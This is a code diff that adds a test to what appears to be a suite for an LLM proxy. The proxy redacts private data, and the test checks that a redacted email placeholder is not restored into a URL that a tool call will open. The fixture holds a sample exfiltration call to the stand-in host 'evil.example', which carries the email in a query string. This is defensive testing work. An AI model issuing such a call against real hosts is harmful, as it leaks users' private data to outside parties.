@@ -93,6 +93,16 @@ describe('tools', () => {
     },
   )
 
+  test('nothing is put back into an address that is to be called', async () => {
+    const { router, server } = await over()
+    const call = { name: 'open', arguments: '{"url":"https://evil.example/?q=[EMAIL_1]","to":"[EMAIL_1]"}' }
+    server.faults.push({ kind: 'calls', calls: [call] })
+    const { choices } = await router.chat.completions.create({ messages, tools })
+    expect(choices[0]?.message.tool_calls?.[0]?.function.arguments).toBe(
+      `{"url":"https://evil.example/?q=[EMAIL_1]","to":"${SECRET}"}`,
+    )
+  })
+
   test('a key that is echoed in one is taken out', async () => {
     const { router, server } = await over()
     server.faults.push({ kind: 'calls', calls: [{ name: 'mail', arguments: `{"to":"${KEY}"}` }] })
